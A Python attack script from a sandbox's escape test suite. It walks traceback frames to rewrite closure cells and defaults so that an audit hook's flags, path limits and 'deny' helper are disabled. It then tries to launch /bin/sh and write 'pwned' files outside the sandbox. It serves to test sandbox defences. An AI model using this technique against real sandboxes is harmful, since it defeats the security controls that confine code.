"""Sandboxed attack script (not a test module): disable the audit hook through a traceback.

Triggers a refusal, walks tb_frame/f_back from it, and rewrites every closure cell and
default it can reach (flags to True, path roots to everything, the `deny` helper to a no-op),
then tries to start a program and to write outside. Used by test_sandbox_escapes.py.
"""

import subprocess
import sys
import types

OUTSIDE = sys.argv[1]


def frames_of(tb):
    found = []
    while tb is not None:
        frame = tb.tb_frame
        while frame is not None:
            found.append(frame)
            frame = frame.f_back
        tb = tb.tb_next
    return found


def functions_in(frame):
    values = list(frame.f_locals.values()) + list(frame.f_globals.values())
    for value in values:
        if isinstance(value, types.FunctionType):
            yield value
        if isinstance(value, tuple):
            yield from (v for v in value if isinstance(v, types.FunctionType))


def loosen(fn):
    changed = 0
    for cell in fn.__closure__ or ():
        try:
            contents = cell.cell_contents
        except ValueError:
            continue
        if contents is False:
            cell.cell_contents = True
            changed += 1
        elif isinstance(contents, tuple) and contents and all(isinstance(p, str) for p in contents):
            cell.cell_contents = ("",)
            changed += 1
        elif isinstance(contents, types.FunctionType) and contents.__name__ == "deny":
            cell.cell_contents = lambda *args, **kwargs: None
            changed += 1
    try:
        fn.__defaults__ = tuple(True if d is False else d for d in fn.__defaults__ or ())
    except Exception as exc:
        print("defaults refused:", type(exc).__name__)
    return changed


try:
    subprocess.run(["true"])
except PermissionError as exc:
    frames = frames_of(exc.__traceback__)
changed = sum(loosen(fn) for frame in frames for fn in functions_in(frame))
print("cells changed:", changed)
for name, attempt in [
    (
        "subprocess",
        lambda: subprocess.run(["/bin/sh", "-c", f"echo pwned > {OUTSIDE}/sh.txt"], check=True),
    ),
    ("write", lambda: open(f"{OUTSIDE}/py.txt", "w").write("pwned")),  # noqa: SIM115
]:
    try:
        attempt()
        print(name, "done")
    except Exception as exc:
        print(name, "refused", type(exc).__name__, str(exc)[:120])
